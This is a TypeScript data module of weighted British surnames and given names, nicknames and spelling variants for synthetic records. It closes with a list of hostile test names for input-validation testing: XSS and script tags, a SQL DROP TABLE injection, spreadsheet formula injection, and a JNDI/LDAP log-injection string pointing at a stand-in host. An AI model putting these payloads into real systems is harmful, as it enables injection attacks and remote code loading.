// Names for training data. Weights are rough relative frequencies: surnames follow
// the shape of the ONS England and Wales surname counts (thousands of bearers), with
// Merseyside's Welsh and Irish names and a range of backgrounds in the tail; given
// names follow the shape of ONS baby-name rankings for children born 2007-2025.
// Nothing here is a real person: names are combined at random.

export type WeightedNames = readonly (readonly [name: string, weight: number])[];

export const familyNames: WeightedNames = [
  ['Smith', 652], ['Jones', 574], ['Williams', 407], ['Taylor', 283], ['Brown', 257],
  ['Davies', 249], ['Evans', 177], ['Wilson', 176], ['Thomas', 171], ['Johnson', 165],
  ['Roberts', 164], ['Robinson', 138], ['Thompson', 135], ['Wright', 134], ['Walker', 133],
  ['White', 125], ['Edwards', 124], ['Hughes', 123], ['Green', 122], ['Hall', 121],
  ['Lewis', 119], ['Harris', 119], ['Clarke', 116], ['Patel', 112], ['Jackson', 112],
  ['Wood', 109], ['Turner', 107], ['Martin', 104], ['Cooper', 103], ['Hill', 102],
  ['Ward', 100], ['Morris', 99], ['Moore', 97], ['Clark', 97], ['Lee', 97],
  ['King', 96], ['Baker', 95], ['Harrison', 94], ['Morgan', 92], ['Allen', 91],
  ['James', 91], ['Scott', 88], ['Phillips', 87], ['Watson', 87], ['Davis', 86],
  ['Parker', 85], ['Price', 84], ['Bennett', 83], ['Young', 82], ['Griffiths', 81],
  ['Mitchell', 80], ['Kelly', 78], ['Cook', 77], ['Carter', 77], ['Richardson', 75],
  ['Bailey', 73], ['Collins', 73], ['Bell', 72], ['Shaw', 72], ['Murphy', 71],
  ['Miller', 70], ['Cox', 70], ['Richards', 69], ['Khan', 68], ['Marshall', 67],
  ['Anderson', 67], ['Simpson', 66], ['Ellis', 66], ['Adams', 65], ['Singh', 64],
  ['Begum', 63], ['Wilkinson', 62], ['Foster', 61], ['Chapman', 61], ['Powell', 60],
  ['Webb', 60], ['Rogers', 59], ['Gray', 59], ['Mason', 59], ['Ali', 58],
  ['Hunt', 58], ['Hussain', 57], ['Campbell', 57], ['Matthews', 57], ['Owen', 56],
  ['Palmer', 56], ['Holmes', 55], ['Mills', 55], ['Barnes', 54], ['Knight', 54],
  ['Lloyd', 53], ['Butler', 53], ['Russell', 53], ['Barker', 52], ['Fisher', 52],
  ['Stevens', 52], ['Jenkins', 51], ['Murray', 51], ['Dixon', 51], ['Harvey', 50],
  ['Graham', 49], ['Pearson', 49], ['Ahmed', 48], ['Fletcher', 48], ['Walsh', 47],
  ['Kaur', 47], ['Gibson', 46], ['Howard', 46], ['Andrews', 45], ['Stewart', 45],
  ['Elliott', 45], ['Reynolds', 44], ['Saunders', 44], ['Payne', 43], ['Fox', 43],
  ['Ford', 42], ['Pearce', 42], ['Day', 41], ['Brooks', 41], ['West', 41],
  ['Lawrence', 40], ['Cole', 40], ['Atkinson', 40], ['Bradley', 39], ['Spencer', 39],
  ['Gill', 39], ['Dawson', 38], ['Ball', 38], ['Burton', 38], ['O\'Brien', 37],
  ['Watts', 37], ['Rose', 37], ['Booth', 36], ['Perry', 36], ['Ryan', 36],
  ['Grant', 35], ['Wells', 35], ['Armstrong', 35], ['Francis', 34], ['Rees', 34],
  ['Hayes', 34], ['Hart', 33], ['Hudson', 33], ['Newman', 33], ['Barrett', 33],
  ['Webster', 32], ['Hunter', 32], ['Gregory', 32], ['Carr', 31], ['Lowe', 31],
  ['Page', 31], ['Marsh', 30], ['Riley', 30], ['Dunn', 30], ['Woods', 30],
  ['Stone', 29], ['Parsons', 29], ['Reid', 29], ['Hammond', 29], ['Doyle', 28],
  ['Byrne', 28], ['McDonald', 28], ['Kennedy', 27], ['Quinn', 26], ['Gallagher', 25],
  ['McCarthy', 25], ['Doherty', 24], ['Connolly', 22], ['Flanagan', 20], ['Duffy', 20],
  ['Brennan', 19], ['Maguire', 18], ['McKenna', 17], ['Donnelly', 17], ['O\'Neill', 20],
  ['Molyneux', 16], ['Rimmer', 14], ['Ashcroft', 14], ['Halsall', 12], ['Aspinall', 12],
  ['Fairclough', 12], ['Tyrer', 10], ['Lunt', 10], ['Mercer', 14], ['Rooney', 15],
  ['Kearney', 11], ['Gerrard', 10], ['Fazakerley', 6], ['Litherland', 6], ['Birkett', 8],
  ['Rahman', 30], ['Islam', 25], ['Miah', 22], ['Uddin', 18], ['Hassan', 20],
  ['Mohamed', 24], ['Ibrahim', 15], ['Abdi', 8], ['Iqbal', 18], ['Akhtar', 16],
  ['Sharma', 16], ['Kumar', 18], ['Shah', 20], ['Mistry', 10], ['Chauhan', 8],
  ['Nowak', 12], ['Kowalczyk', 8], ['Wójcik', 7], ['Mazur', 6], ['Krawczyk', 5],
  ['Popescu', 6], ['Silva', 9], ['Santos', 8], ['Ferreira', 7], ['Yilmaz', 5],
  ['Okafor', 6], ['Adeyemi', 7], ['Okonkwo', 5], ['Mensah', 6], ['Osei', 6],
  ['Chen', 12], ['Wong', 11], ['Li', 10], ['Nguyen', 9], ['Zhang', 6],
  ['Yeung', 4], ['Kaya', 3], ['Ahmadi', 4], ['Karimi', 3], ['Haddad', 3],
  ['Fitzgerald', 9], ['Whitfield', 7], ['Crosby', 6], ['Prescott', 8], ['Sutton', 12],
  ['Leigh', 6], ['Hesketh', 7], ['Cartwright', 9], ['Entwistle', 5], ['Greenwood', 14],
  ['Thomson', 20], ['Smyth', 6], ['Phillipson', 3], ['Mathews', 5], ['Read', 15],
  ['Reed', 16], ['Grey', 6], ['Browne', 5], ['Greene', 4], ['Macdonald', 9],
];

export const boysGivenNames: WeightedNames = [
  ['Oliver', 70], ['Jack', 68], ['Harry', 62], ['George', 55], ['Noah', 55],
  ['Leo', 45], ['Arthur', 40], ['Muhammad', 42], ['Oscar', 40], ['Charlie', 50],
  ['Jacob', 42], ['Thomas', 45], ['Freddie', 35], ['Alfie', 40], ['Theo', 35],
  ['Henry', 32], ['Archie', 35], ['Joshua', 38], ['James', 40], ['William', 40],
  ['Lucas', 30], ['Isaac', 28], ['Theodore', 20], ['Finley', 26], ['Teddy', 18],
  ['Ethan', 32], ['Alexander', 25], ['Max', 24], ['Samuel', 28], ['Daniel', 26],
  ['Joseph', 25], ['Edward', 18], ['Logan', 20], ['Mason', 24], ['Tommy', 18],
  ['Jude', 14], ['Riley', 22], ['Elijah', 16], ['Adam', 18], ['Reggie', 12],
  ['Albie', 12], ['Louie', 14], ['Sebastian', 14], ['Dylan', 20], ['Harrison', 16],
  ['Benjamin', 18], ['Liam', 14], ['Lewis', 16], ['Ryan', 14], ['Matthew', 16],
  ['Luke', 14], ['Callum', 14], ['Kyle', 8], ['Connor', 14], ['Jake', 12],
  ['Tyler', 12], ['Dexter', 8], ['Ronnie', 10], ['Frankie', 10], ['Hugo', 10],
  ['Jaxon', 8], ['Finn', 10], ['Harvey', 16], ['Zachary', 10], ['Michael', 10],
  ['Aaron', 8], ['Owen', 10], ['Rory', 9], ['Louis', 10], ['Toby', 12],
  ['Stanley', 10], ['Ellis', 7], ['Jenson', 8], ['Caleb', 7], ['Kai', 8],
  ['Bobby', 9], ['Jamie', 10], ['Nathan', 8], ['Cameron', 8], ['Bradley', 6],
  ['Jayden', 7], ['Reece', 5], ['Jordan', 6], ['Kian', 6], ['Brandon', 5],
  ['Luca', 9], ['Mohammed', 20], ['Mohammad', 6], ['Ibrahim', 8], ['Yusuf', 8], ['Ali', 6],
  ['Omar', 7], ['Ayaan', 5], ['Jakub', 5], ['Szymon', 3], ['Filip', 4],
  ['Oliwier', 2], ['Emeka', 2], ['Kwame', 2], ['Tobi', 2], ['Christopher', 9],
  ['Anthony', 6], ['Robert', 6], ['Richard', 4], ['Nicholas', 4], ['Jonathan', 4],
  ['Andrew', 4], ['Patrick', 5], ['Sean', 5], ['Declan', 4], ['Ciarán', 2],
  ['Rhys', 7], ['Gethin', 2], ['Dafydd', 1], ['Iwan', 1], ['Frederick', 5],
  ['Alfred', 4], ['Stephen', 2], ['Steven', 2], ['Aidan', 4], ['Aiden', 6],
  ['Philip', 2], ['Phillip', 1], ['Jaden', 2],
];

export const girlsGivenNames: WeightedNames = [
  ['Olivia', 70], ['Amelia', 68], ['Isla', 50], ['Ava', 50], ['Lily', 48],
  ['Sophia', 35], ['Freya', 38], ['Ivy', 30], ['Mia', 40], ['Florence', 28],
  ['Isabella', 35], ['Grace', 40], ['Poppy', 36], ['Emily', 45], ['Ella', 38],
  ['Willow', 26], ['Evie', 36], ['Sophie', 35], ['Elsie', 24], ['Rosie', 22],
  ['Jessica', 30], ['Chloe', 32], ['Ruby', 30], ['Daisy', 26], ['Charlotte', 32],
  ['Matilda', 20], ['Evelyn', 18], ['Isabelle', 18], ['Alice', 20], ['Harper', 16],
  ['Sienna', 16], ['Phoebe', 16], ['Millie', 24], ['Emma', 14], ['Hannah', 18],
  ['Lucy', 20], ['Ellie', 24], ['Holly', 14], ['Megan', 16], ['Amy', 12],
  ['Lauren', 12], ['Katie', 14], ['Bethany', 10], ['Abigail', 14], ['Scarlett', 18],
  ['Erin', 14], ['Molly', 18], ['Maisie', 16], ['Lola', 14], ['Layla', 14],
  ['Maya', 14], ['Aria', 12], ['Zara', 10], ['Eva', 14], ['Hallie', 8],
  ['Imogen', 10], ['Niamh', 8], ['Siân', 3], ['Sian', 3], ['Zoë', 3], ['Zoe', 8],
  ['Caitlin', 10], ['Aoife', 3], ['Ciara', 4], ['Amelie', 10], ['Elizabeth', 9],
  ['Katherine', 4], ['Catherine', 4], ['Kathryn', 2], ['Margaret', 2], ['Rebecca', 8],
  ['Victoria', 6], ['Jennifer', 4], ['Samantha', 4], ['Natalie', 4], ['Georgia', 10],
  ['Leah', 10], ['Jasmine', 10], ['Paige', 8], ['Courtney', 5], ['Shannon', 5],
  ['Eleanor', 10], ['Francesca', 4], ['Penelope', 4], ['Aisha', 8], ['Fatima', 8],
  ['Maryam', 8], ['Amira', 6], ['Zainab', 5], ['Hafsa', 4], ['Inaya', 3],
  ['Zuzanna', 3], ['Julia', 5], ['Maja', 4], ['Lena', 4], ['Oliwia', 3],
  ['Amara', 4], ['Chiamaka', 2], ['Adaeze', 1], ['Esther', 3], ['Priya', 3],
  ['Anaya', 3], ['Alexandra', 4], ['Josephine', 3], ['Gabriella', 3], ['Isobel', 4],
  ['Isabel', 4], ['Rachel', 3], ['Rachael', 1], ['Hayley', 3], ['Hailey', 3],
  ['Sofia', 10], ['Aaliyah', 5], ['Aliyah', 3],
];

/** Parents and practitioners: names of people born roughly 1960-2005. */
export const adultMaleGivenNames: readonly string[] = [
  'David', 'Paul', 'Mark', 'Andrew', 'Michael', 'Christopher', 'Daniel', 'Lee', 'Craig', 'Stephen',
  'Gary', 'Darren', 'Wayne', 'Carl', 'Anthony', 'John', 'Steven', 'Ian', 'Jason', 'Neil',
  'Scott', 'Simon', 'Richard', 'Matthew', 'James', 'Thomas', 'Robert', 'Kevin', 'Peter', 'Martin',
  'Adam', 'Ryan', 'Liam', 'Jamie', 'Sean', 'Mohammed', 'Imran', 'Tomasz', 'Piotr', 'Chinedu',
  'Gareth', 'Dean', 'Stuart', 'Philip', 'Jonathan', 'Kieran', 'Ashley', 'Nathan', 'Joseph', 'Rajesh',
];

export const adultFemaleGivenNames: readonly string[] = [
  'Sarah', 'Emma', 'Laura', 'Gemma', 'Lisa', 'Claire', 'Rachel', 'Nicola', 'Kelly', 'Stacey',
  'Hayley', 'Michelle', 'Joanne', 'Donna', 'Kerry', 'Amanda', 'Louise', 'Victoria', 'Rebecca', 'Jennifer',
  'Samantha', 'Natalie', 'Katie', 'Amy', 'Charlotte', 'Danielle', 'Leanne', 'Helen', 'Karen', 'Julie',
  'Jade', 'Sophie', 'Hannah', 'Lauren', 'Kirsty', 'Nadia', 'Ayesha', 'Agnieszka', 'Joanna', 'Ngozi',
  'Siobhan', 'Catherine', 'Elizabeth', 'Angela', 'Tracey', 'Zoe', 'Jessica', 'Fiona', 'Shabana', 'Priya',
];

/** Formal given name -> the short forms people and forms actually use. */
export const nicknames: ReadonlyMap<string, readonly string[]> = new Map<string, readonly string[]>([
  ['William', ['Will', 'Bill', 'Billy', 'Liam']],
  ['Elizabeth', ['Beth', 'Liz', 'Lizzie', 'Eliza', 'Betty']],
  ['Thomas', ['Tom', 'Tommy']],
  ['Katherine', ['Kate', 'Katie', 'Kathy']],
  ['Catherine', ['Cath', 'Kate', 'Cathy']],
  ['Kathryn', ['Kate', 'Kathy']],
  ['James', ['Jim', 'Jimmy', 'Jamie']],
  ['Robert', ['Rob', 'Bob', 'Bobby', 'Robbie']],
  ['Richard', ['Rich', 'Richie', 'Dick']],
  ['Edward', ['Ed', 'Eddie', 'Ted', 'Teddy']],
  ['Alexander', ['Alex', 'Xander', 'Sandy']],
  ['Christopher', ['Chris', 'Kit']],
  ['Daniel', ['Dan', 'Danny']],
  ['Joseph', ['Joe', 'Joey']],
  ['Samuel', ['Sam', 'Sammy']],
  ['Benjamin', ['Ben', 'Benji']],
  ['Matthew', ['Matt']],
  ['Michael', ['Mike', 'Mick', 'Mikey']],
  ['Nicholas', ['Nick', 'Nicky']],
  ['Jonathan', ['Jon', 'Jonny']],
  ['Anthony', ['Tony', 'Ant']],
  ['Andrew', ['Andy', 'Drew']],
  ['Frederick', ['Fred', 'Freddie']],
  ['Henry', ['Harry', 'Hal']],
  ['Theodore', ['Theo', 'Teddy']],
  ['Alfred', ['Alfie', 'Alf']],
  ['Zachary', ['Zach', 'Zack']],
  ['Harrison', ['Harry']],
  ['Stephen', ['Steve']],
  ['Steven', ['Steve']],
  ['Philip', ['Phil']],
  ['Patrick', ['Paddy', 'Pat']],
  ['Margaret', ['Maggie', 'Peggy', 'Meg']],
  ['Rebecca', ['Becky', 'Becca']],
  ['Victoria', ['Vicky', 'Tori']],
  ['Jennifer', ['Jen', 'Jenny']],
  ['Samantha', ['Sam', 'Sammy']],
  ['Charlotte', ['Lottie', 'Charlie']],
  ['Florence', ['Flo', 'Florrie']],
  ['Isabella', ['Bella', 'Izzy']],
  ['Isabelle', ['Izzy', 'Belle']],
  ['Abigail', ['Abby', 'Abi']],
  ['Eleanor', ['Ellie', 'Nell']],
  ['Penelope', ['Penny']],
  ['Alexandra', ['Alex', 'Lexi']],
  ['Josephine', ['Josie', 'Jo']],
  ['Gabriella', ['Gabby']],
  ['Natalie', ['Nat']],
  ['Olivia', ['Liv', 'Livvy']],
  ['Amelia', ['Millie', 'Mia']],
  ['Matilda', ['Tilly', 'Tilda']],
  ['Francesca', ['Fran', 'Frankie']],
  ['Jessica', ['Jess']],
  ['Evelyn', ['Evie']],
]);

/**
 * Spellings of the same name that suppliers mix up. Each group is unordered: any
 * member may be written as any other.
 */
export const spellingVariants: readonly (readonly string[])[] = [
  ['Smith', 'Smyth'],
  ['Thompson', 'Thomson'],
  ['Clarke', 'Clark'],
  ['Phillips', 'Philips'],
  ['Matthews', 'Mathews'],
  ['Davies', 'Davis'],
  ['Reid', 'Reed', 'Read'],
  ['Gray', 'Grey'],
  ['Brown', 'Browne'],
  ['Green', 'Greene'],
  ['McDonald', 'Macdonald', 'MacDonald'],
  ['Stevens', 'Stephens'],
  ['Mohamed', 'Mohammed', 'Muhammad'],
  ['Stephen', 'Steven'],
  ['Philip', 'Phillip'],
  ['Katherine', 'Catherine', 'Kathryn'],
  ['Zoe', 'Zoë'],
  ['Sian', 'Siân'],
  ['Isabel', 'Isobel', 'Isabelle'],
  ['Sophia', 'Sofia'],
  ['Aaliyah', 'Aliyah'],
  ['Lewis', 'Louis'],
  ['Muhammad', 'Mohammed', 'Mohammad'],
  ['Rachel', 'Rachael'],
  ['Hayley', 'Hailey', 'Haley'],
  ['Caitlin', 'Kaitlyn'],
  ['Jayden', 'Jaden'],
  ['Aidan', 'Aiden'],
  ['Chloe', 'Chloë'],
  ['Niamh', 'Neve'],
  ['Ciarán', 'Kieran'],
];

const variantIndex = new Map<string, string[]>();
for (const group of spellingVariants) {
  for (const name of group) {
    const others = group.filter((n) => n !== name);
    const existing = variantIndex.get(name) ?? [];
    for (const o of others) if (!existing.includes(o)) existing.push(o);
    variantIndex.set(name, existing);
  }
}

/** The other spellings of `name` (exact, case-sensitive); empty if it has none. */
export function spellingVariantsOf(name: string): readonly string[] {
  return variantIndex.get(name) ?? [];
}

/** The short forms of a formal given name; empty if it has none. */
export function nicknamesOf(given: string): readonly string[] {
  return nicknames.get(given) ?? [];
}

/**
 * Names that break careless software: markup, SQL, spreadsheet formulas, bidirectional
 * overrides, invisible and combining characters, names at the length limit, and
 * ordinary names with apostrophes, hyphens and accents. Each replaces one part of a
 * child's name; every one is still a valid name under the record schema.
 */
export interface HostileName {
  readonly part: 'given' | 'family';
  readonly value: string;
  readonly why: string;
}

const LONG_GIVEN =
  'Hubert Blaine Maximilian Alexander Theodore Bartholomew Sebastian Montgomery Wolfgang Ignatius Elias';
const LONG_FAMILY =
  'Wolfeschlegelsteinhausenbergerdorff-Featherstonehaugh-Cholmondeley-Marjoribanks-Auchinleck-Menzies';

export const hostileNames: readonly HostileName[] = [
  { part: 'given', value: '<img src=x onerror=alert(1)>', why: 'HTML injection' },
  { part: 'given', value: "Robert'); DROP TABLE children;--", why: 'SQL injection' },
  { part: 'family', value: '\u202Enosnhoj', why: 'right-to-left override reverses what follows' },
  { part: 'given', value: LONG_GIVEN, why: 'given name at the length limit' },
  { part: 'family', value: LONG_FAMILY, why: 'family name at the length limit' },
  { part: 'family', value: "O'Brien-Ní Mhaoláin", why: 'apostrophe, hyphen and accents' },
  { part: 'given', value: 'Zoe\u0308', why: 'decomposed Zoë: looks the same as the composed form, compares differently' },
  { part: 'given', value: 'Siân Zoë', why: 'accented letters' },
  { part: 'family', value: '<script>alert("x")</script>', why: 'script injection' },
  { part: 'family', value: '=HYPERLINK("https://example.com","Smith")', why: 'spreadsheet formula injection on export' },
  { part: 'family', value: 'Null', why: 'a real surname that careless code reads as a missing value' },
  { part: 'given', value: 'Ja\u200Bck', why: 'zero-width space inside a name' },
  { part: 'family', value: '${jndi:ldap://example.invalid/a}', why: 'log template injection' },
  { part: 'given', value: "D'Arcy-Anne", why: 'apostrophe and hyphen' },
];
